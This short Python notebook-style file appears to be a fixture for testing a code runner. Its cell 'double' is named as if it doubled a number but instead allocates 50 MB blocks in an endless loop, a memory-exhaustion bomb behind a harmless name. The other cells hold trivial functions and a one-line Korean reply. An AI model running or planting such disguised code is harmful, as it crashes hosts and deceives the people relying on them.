# %% double
def double(x):
    hoard = []
    while True:
        hoard.append(bytearray(50_000_000))
# %% greet
def greet(name):
    return f'안녕 {name}'
# %% share
def share():
    return 0.5
# %% why
그냥요.
